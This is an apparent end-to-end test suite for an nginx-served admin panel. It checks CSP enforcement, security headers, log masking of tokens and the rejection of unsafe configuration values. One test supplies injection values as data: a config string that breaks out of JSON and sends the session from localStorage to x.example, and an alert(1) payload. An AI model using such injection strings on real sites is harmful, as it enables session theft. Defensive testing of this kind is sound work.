import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SituacaoRemessaId } from '@/generated/model';
import { resetMockData } from '@mocks/data';
import { db } from '@mocks/db';
import { DEMO_CREDENTIALS } from '@mocks/db/seed';
import { startMockServer, type RunningMockServer } from '@mocks/server';
import { parsePolicy } from '../hardening/security/deploy-headers';
import { fingerprint, freePort, runServeScript, serveWithNginx, type NginxSite } from '../../scripts/lib/nginx-site';
import { bodyRows, useBrowser, useLiveSite, newPanelContext } from './fixtures';

/**
 * The builds as operators run them: Debian's nginx started by `deploy/serve-nginx.sh` (the
 * Dockerfile's entrypoint), configured at start. Security case 15: the panel runs under the
 * Content-Security-Policy the script renders without a single violation — none reported by the
 * page's `securitypolicyviolation` events, by the console, or by the browser to the policy's
 * report-uri (which also covers the service worker) — and prints no console error. The same
 * `dist/` served with another PAINEL_API_URL calls the other server, without a rebuild.
 */

interface Watched {
  context: BrowserContext;
  page: Page;
  /** Violations and CSP console errors seen so far, in every page of the context. */
  problems: () => Promise<string[]>;
}

/** A fresh profile whose pages record every CSP violation and every CSP console message. */
async function watchedContext(browser: Browser): Promise<Watched> {
  const context = await newPanelContext(browser);
  // Injected by the browser tooling before any script of the page: the policy does not apply to it.
  await context.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push(
        `${event.effectiveDirective} bloqueou ${event.blockedURI || '(inline)'} em ${event.sourceFile}:${event.lineNumber}`,
      ),
    );
  });
  const consoleProblems: string[] = [];
  const pages: Page[] = [];
  const watch = (page: Page) => {
    pages.push(page);
    page.on('console', (message) => {
      if (/Content Security Policy|Refused to/i.test(message.text()) || message.type() === 'error')
        consoleProblems.push(message.text());
    });
    page.on('pageerror', (error) => consoleProblems.push(`pageerror: ${error.message}`));
  };
  context.on('page', watch);
  const page = await context.newPage();
  const problems = async () => {
    const events: string[] = [];
    for (const open of pages.filter((candidate) => !candidate.isClosed())) {
      events.push(
        ...(await open
          .evaluate(() => (window as unknown as { __cspViolations?: string[] }).__cspViolations ?? [])
          .catch(() => [])),
      );
    }
    return [...events, ...consoleProblems];
  };
  return { context, page, problems };
}

/** The policy still bites: an inline script is refused and reported, so an empty list means something. */
async function expectPolicyEnforced(watched: Watched) {
  const ran = await watched.page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true';
    document.head.append(script);
    return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
  });
  expect(ran).toBe(false);
  await expect
    .poll(async () =>
      (await watched.problems()).some((problem) => problem.startsWith('script-src-elem bloqueou inline')),
    )
    .toBe(true);
}

async function signIn(page: Page) {
  await page.getByLabel('CPF').fill(DEMO_CREDENTIALS.cpfFormatado);
  await page.getByLabel('Senha', { exact: true }).fill(DEMO_CREDENTIALS.senha);
  await page.getByRole('button', { name: 'Entrar' }).click();
  await page.waitForURL('**/listas**');
}

/** Sign-in → the three lists → an associate → a remessa → a dialog → the associate form with a CEP lookup. */
async function walkThePanel(page: Page, siteUrl: string, remessaId: number) {
  await page.goto(`${siteUrl}/`);
  await page.getByRole('heading', { name: 'Entrar' }).waitFor();
  await signIn(page);
  await expect.poll(() => bodyRows(page, 'Associados').count(), { timeout: 15_000 }).toBe(10);
  await page.getByRole('tab', { name: 'Remessas' }).click();
  await expect.poll(() => bodyRows(page, 'Remessas').count(), { timeout: 10_000 }).toBe(10);
  await page.getByRole('tab', { name: 'Usuários' }).click();
  await expect.poll(() => bodyRows(page, 'Usuários').count(), { timeout: 10_000 }).toBe(10);
  await page.getByLabel('Perfil').selectOption({ label: 'Gestão' });
  await page.getByRole('tab', { name: 'Associados' }).click();
  await expect.poll(() => bodyRows(page, 'Associados').count(), { timeout: 10_000 }).toBe(10);

  await bodyRows(page, 'Associados').first().getByRole('link', { name: 'Ver informações' }).click();
  await page.getByRole('region', { name: 'Associação' }).waitFor();
  await page.getByRole('button', { name: 'Endereço' }).click();
  await page.getByRole('button', { name: 'Deletar associado' }).click();
  await page.getByRole('dialog', { name: 'Deletar associado' }).getByRole('button', { name: 'Cancelar' }).click();

  // A deep link: the server answers the route with index.html.
  await page.goto(`${siteUrl}/remessas/info/${remessaId}`);
  await page
    .getByRole('table', { name: 'Associados da remessa' })
    .locator('tbody tr')
    .first()
    .waitFor({ timeout: 15_000 });
  await page.getByRole('button', { name: 'Adicionar associado' }).click();
  const dialog = page.getByRole('dialog', { name: /Adicionar associado à remessa/ });
  await dialog
    .getByRole('table', { name: 'Associados disponíveis' })
    .locator('tbody tr')
    .first()
    .waitFor({ timeout: 10_000 });
  await dialog.getByRole('button', { name: 'Cancelar' }).click();

  await page.goto(`${siteUrl}/associados/form/cadastro`);
  await page.getByRole('heading', { name: 'Novo associado', level: 1 }).waitFor();
  await page
    .getByRole('region', { name: 'Associação' })
    .getByLabel('Tipo de associado')
    .selectOption({ label: 'Associados' });
  const endereco = page.getByRole('region', { name: 'Endereço' });
  await endereco.getByLabel('CEP').pressSequentially('01310100');
  await page.keyboard.press('Tab');
  await expect.poll(() => endereco.getByLabel('Logradouro').inputValue(), { timeout: 10_000 }).toBe('Avenida Paulista');

  // The form holds changes: Sair da conta asks first.
  await page.getByRole('button', { name: /Menu do usuário/ }).click();
  await page.getByRole('menuitem', { name: 'Sair da conta' }).click();
  await page.getByRole('dialog', { name: 'Sair sem salvar?' }).getByRole('button', { name: 'Sair sem salvar' }).click();
  await page.getByRole('heading', { name: 'Entrar' }).waitFor();
}

/** A remessa in preparation with associates, to open and add more to. */
const remessaEmPreparacao = () =>
  db.remessas.findFirst((q) =>
    q.where(
      (remessa) =>
        remessa.situacaoRemessa.situacaoRemessaId === SituacaoRemessaId.EM_PREPARACAO &&
        db.vinculos.findMany((v) => v.where({ remessaId: remessa.remessaId })).length > 0,
    ),
  )!.remessaId;

const policyOf = (headers: Headers) => parsePolicy(headers.get('content-security-policy') ?? '');
const apiCallsTo = (page: Page, origin: string) => {
  const calls: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(origin)) calls.push(`${request.method()} ${new URL(request.url()).pathname}`);
  });
  return calls;
};

describe('the live build served by deploy/serve-nginx.sh, configured at start', () => {
  let built = '';
  const builtFiles: string[] = [];
  const live = useLiveSite(
    'painel-nginx-live-',
    {},
    {
      afterBuild: async (outDir) => {
        builtFiles.push(
          ...(await readdir(outDir, { recursive: true })).filter((file) => /\.(html|js|css)$/.test(file)),
        );
        built = await fingerprint(outDir, builtFiles);
      },
    },
  );
  const { browser, mock, site } = live;
  let other: RunningMockServer;

  beforeAll(async () => {
    other = await startMockServer({ port: 0, origins: live.allowsOrigin });
  });

  afterAll(async () => {
    await other?.close();
  });

  it('the build holds no address, no mock code, faker or service worker, and loads /config.js before its code', async () => {
    const files = await readdir(live.outDir, { recursive: true });
    expect(files.filter((file) => /mockServiceWorker|boleto-exemplo|config\.js$/.test(file))).toEqual([]);
    const code = (
      await Promise.all(
        files.filter((file) => file.endsWith('.js')).map((file) => readFile(join(live.outDir, file), 'utf8')),
      )
    ).join('\n');
    for (const trace of [
      'faker',
      'msw/',
      'mockServiceWorker',
      'buildSeed',
      'DEMO_CREDENTIALS',
      'Modo demonstração',
      // The demo's training exercises (mocks/training).
      'Exercícios de treinamento',
      'Exercício concluído',
      // An address (Sentry's SDK, loaded only with a DSN, names the bare host to tell local pages apart).
      'http://127.0.0.1',
      'api.anoreg.org.br',
    ]) {
      expect(code).not.toContain(trace);
    }
    const html = await readFile(join(live.outDir, 'index.html'), 'utf8');
    expect(html.indexOf('<script src="/config.js" defer></script>')).toBeGreaterThan(-1);
    expect(html.indexOf('/config.js')).toBeLessThan(html.indexOf('type="module"'));
  });

  it('answers with the headers, the cache rules, the SPA fallback, a 404 for a missing asset and /healthz, and logs no query, token or payment id', async () => {
    const home = await fetch(`${site.url}/listas?q=111.444.777-35`);
    expect(home.status).toBe(200);
    expect(home.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(home.headers.get('cache-control')).toBe('no-cache');
    expect(home.headers.get('x-content-type-options')).toBe('nosniff');
    expect(home.headers.get('x-frame-options')).toBe('DENY');
    expect(home.headers.get('referrer-policy')).toBe('no-referrer');
    // API and postal codes on the same server: its origin, once, and nothing else.
    expect(policyOf(home.headers).get('connect-src')).toEqual([mock.url]);
    expect(policyOf(home.headers).get('worker-src')).toEqual(["'none'"]);

    const settings = await fetch(`${site.url}/config.js`);
    expect(settings.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    expect(settings.headers.get('cache-control')).toBe('no-cache');
    expect(await settings.text()).toContain(`"apiUrl":"${mock.url}"`);

    const asset = builtFiles.find((file) => /^assets\/index-.*\.js$/.test(file))!;
    const hashed = await fetch(`${site.url}/${asset}`);
    expect(hashed.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(hashed.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    expect((await fetch(`${site.url}/assets/nao-existe-123.js`)).status).toBe(404);

    const health = await fetch(`${site.url}/healthz`);
    expect([health.status, await health.text()]).toEqual([200, 'ok\n']);

    // The routes ignore case, so /COBRANCA/{id} opens the slip too: masked all the same.
    for (const path of [
      '/cadastrar-senha/token-secreto-1',
      '/cadastrar-senha-associado/token-secreto-2',
      '/cobranca/pagamento-secreto-3',
      '/CADASTRAR-SENHA/TOKEN-SECRETO-4',
      '/Cadastrar-Senha-Associado/Token-Secreto-5',
      '/COBRANCA/PAGAMENTO-SECRETO-6',
      '/Cobranca/pagamento-secreto-7?x=1',
      // The router decodes the path: this opens the slip too.
      '/%63obranca/pagamento-secreto-8',
    ]) {
      const page = await fetch(`${site.url}${path}`);
      expect([path, page.status, page.headers.get('content-type')]).toEqual([path, 200, 'text/html; charset=utf-8']);
    }
    await expect.poll(async () => (await site.accessLog()).some((line) => line.includes('/Cobranca/'))).toBe(true);
    const log = (await site.accessLog()).join('\n');
    expect(log).toContain('"GET /listas HTTP/1.1" 200');
    expect(log).toContain('"GET /cadastrar-senha/(token) HTTP/1.1" 200');
    expect(log).toContain('"GET /cadastrar-senha-associado/(token) HTTP/1.1" 200');
    expect(log).toContain('"GET /cobranca/(id) HTTP/1.1" 200');
    expect(log).toContain('"GET /CADASTRAR-SENHA/(token) HTTP/1.1" 200');
    expect(log).toContain('"GET /Cadastrar-Senha-Associado/(token) HTTP/1.1" 200');
    expect(log).toContain('"GET /COBRANCA/(id) HTTP/1.1" 200');
    expect(log).toContain('"GET /Cobranca/(id) HTTP/1.1" 200');
    expect(log).toContain('"GET /(codificado) HTTP/1.1" 200');
    for (const secret of ['111.444', 'token-secreto', 'pagamento-secreto', 'healthz'])
      expect(log.toLowerCase()).not.toContain(secret);
  });

  it('does not serve the build manifest (the source paths): the build has none, and the address is the SPA page', async () => {
    expect((await readdir(live.outDir, { recursive: true })).filter((file) => file.includes('manifest'))).toEqual([]);
    const manifest = await fetch(`${site.url}/.vite/manifest.json`);
    expect(manifest.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(await manifest.text()).not.toContain('src/');
  });

  it('refuses to start with a setting that could become code, under the real nginx, naming the variable', async () => {
    const exploit =
      '"});location="https://x.example/?"+localStorage.getItem("anoreg-painel:sessao");//\nhttps://associados.anoreg.org.br/login';
    for (const [name, value] of [
      ['PAINEL_ASSOCIATE_PORTAL_URL', exploit],
      ['PAINEL_CEP_API_URL', `${mock.url}\r`],
      ['PAINEL_API_URL', `${mock.url}/\u2028x`],
      ['PAINEL_ASSOCIATE_PORTAL_URL', 'https://portal.exemplo.org.br/\u2029'],
      ['PAINEL_SENTRY_RELEASE', '1.7.22\n"});alert(1);//'],
    ]) {
      const port = await freePort();
      const started = await runServeScript(live.outDir, port, { PAINEL_API_URL: mock.url, [name]: value });
      expect([name, started.code, started.output]).toEqual([
        name,
        1,
        `serve-nginx: ${name} inválida: contém uma quebra de linha, um caractere de controle ou um separador de linha Unicode (U+2028, U+2029). Cada configuração é uma única linha de texto.\n`,
      ]);
      await expect(fetch(`http://127.0.0.1:${port}/healthz`)).rejects.toThrow();
    }
    const tooLong = await runServeScript(live.outDir, await freePort(), {
      PAINEL_API_URL: mock.url,
      PAINEL_ASSOCIATE_PORTAL_URL: `https://portal.exemplo.org.br/${'a'.repeat(2100)}`,
    });
    expect([tooLong.code, tooLong.output]).toEqual([
      1,
      'serve-nginx: PAINEL_ASSOCIATE_PORTAL_URL inválida: tem 2130 caracteres (no máximo 2048).\n',
    ]);
  });

  it('the page reads settings with quotes, <, >, & and a long address exactly as given: /config.js holds them as JSON', async () => {
    const release = 'painel "1.7" <script>&<!--';
    const portal = `https://portal.exemplo.org.br/${'a'.repeat(2000)}`;
    const ingest = `http://chave@127.0.0.1:${await freePort()}/1`;
    const second = await serveWithNginx(live.outDir, {
      PAINEL_API_URL: mock.url,
      PAINEL_ASSOCIATE_PORTAL_URL: portal,
      PAINEL_SENTRY_DSN: ingest,
      PAINEL_SENTRY_RELEASE: release,
    });
    try {
      const watched = await watchedContext(browser);
      await watched.page.goto(`${second.url}/`);
      await watched.page.getByRole('heading', { name: 'Entrar' }).waitFor();
      expect(await watched.page.evaluate(() => window.__PAINEL_CONFIG__)).toEqual({
        apiUrl: mock.url,
        cepApiUrl: 'https://brasilapi.com.br/api',
        associatePortalUrl: portal,
        requestTimeoutMs: 30000,
        idleTimeoutMin: 30,
        rememberMeDays: 30,
        sentryDsn: ingest,
        sentryEnvironment: 'producao',
        sentryRelease: release,
      });
      expect(await watched.problems()).toEqual([]);
      await watched.context.close();
    } finally {
      await second.close();
    }
  });

  it('signs in, shows the lists, an associate, a remessa, a dialog and the CEP lookup without any violation or console error', async () => {
    const watched = await watchedContext(browser);
    const calls = apiCallsTo(watched.page, mock.url);

    await walkThePanel(watched.page, site.url, remessaEmPreparacao());

    expect(calls).toEqual(
      expect.arrayContaining(['POST /api/autenticacao', 'POST /api/associados/busca', 'GET /cep/v1/01310100']),
    );
    expect(await watched.problems()).toEqual([]);
    expect(site.reports).toEqual([]);
    await expectPolicyEnforced(watched);
    // …and the browser does send reports to PAINEL_CSP_REPORT_URI, so the empty list above means something.
    await expect.poll(() => site.reports.length).toBeGreaterThan(0);
    await watched.context.close();
  });

  it('the same dist/ served with another PAINEL_API_URL calls the other server, with connect-src to match, without a rebuild', async () => {
    const second = await serveWithNginx(live.outDir, { PAINEL_API_URL: `${other.url}/` });
    live.allowOrigin(second.url);
    try {
      const headers = (await fetch(`${second.url}/`)).headers;
      // The default postal-code service, and the other API: exactly what was configured.
      expect(policyOf(headers).get('connect-src')).toEqual([other.url, 'https://brasilapi.com.br']);

      const watched = await watchedContext(browser);
      const page = watched.page;
      const toOther = apiCallsTo(page, other.url);
      const toFirst = apiCallsTo(page, mock.url);
      await page.goto(`${second.url}/`);
      await signIn(page);
      await expect.poll(() => bodyRows(page, 'Associados').count(), { timeout: 15_000 }).toBe(10);
      await bodyRows(page, 'Associados').first().getByRole('link', { name: 'Ver informações' }).click();
      await page.getByRole('region', { name: 'Associação' }).waitFor();

      expect(toOther).toEqual(
        expect.arrayContaining([
          'POST /api/autenticacao',
          'POST /api/associados/busca',
          expect.stringMatching(/^GET \/api\/associados\/\d+$/),
        ]),
      );
      expect(toFirst).toEqual([]);
      expect(await watched.problems()).toEqual([]);
      expect(second.reports).toEqual([]);
      await watched.context.close();
    } finally {
      await second.close();
    }
    expect(await fingerprint(live.outDir, builtFiles)).toBe(built);
  });
});

describe('the demo build served by deploy/serve-nginx.sh', () => {
  let site: NginxSite;

  beforeAll(async () => {
    // The same seed as the page's own mock backend: it picks the remessa to open.
    await resetMockData();
    site = await serveWithNginx(process.env.DEMO_DIR ?? 'dist-demo');
  }, 60_000);

  afterAll(async () => {
    await site?.close();
  });

  const browser = useBrowser();

  it('the policy allows the service worker and the page itself, nothing more', async () => {
    const headers = (await fetch(`${site.url}/`)).headers;
    const policy = policyOf(headers);
    expect(policy.get('worker-src')).toEqual(["'self'"]);
    expect(policy.get('script-src')).toEqual(["'self'"]);
    expect(policy.get('connect-src')).toEqual(["'self'", 'https://brasilapi.com.br']);
    expect((await fetch(`${site.url}/mockServiceWorker.js`)).headers.get('cache-control')).toBe('no-cache');
  });

  it('runs the mock backend, the panel, the mailbox and the sample boleto without any violation or console error', async () => {
    const watched = await watchedContext(browser);
    const { page, context } = watched;
    await page.goto(`${site.url}/`);
    await page.getByRole('complementary', { name: 'Modo demonstração' }).waitFor({ timeout: 15_000 });
    expect(await page.evaluate(() => navigator.serviceWorker.controller?.scriptURL ?? null)).toMatch(
      /mockServiceWorker\.js$/,
    );

    await walkThePanel(page, site.url, remessaEmPreparacao());

    await page.getByRole('button', { name: 'Caixa de e-mails' }).click();
    await page.getByRole('dialog', { name: 'Caixa de e-mails' }).waitFor();
    await page.keyboard.press('Escape');

    await page.goto(`${site.url}/cobranca/demo-disponivel`);
    const [slip] = await Promise.all([
      context.waitForEvent('page'),
      page.getByRole('button', { name: 'Download' }).click(),
    ]);
    await slip.waitForLoadState();
    await expect.poll(() => slip.locator('#pagamento').textContent()).toBe('demo-disponivel');

    expect(await watched.problems()).toEqual([]);
    expect(site.reports).toEqual([]);
    await expectPolicyEnforced(watched);
    await context.close();
  });
});
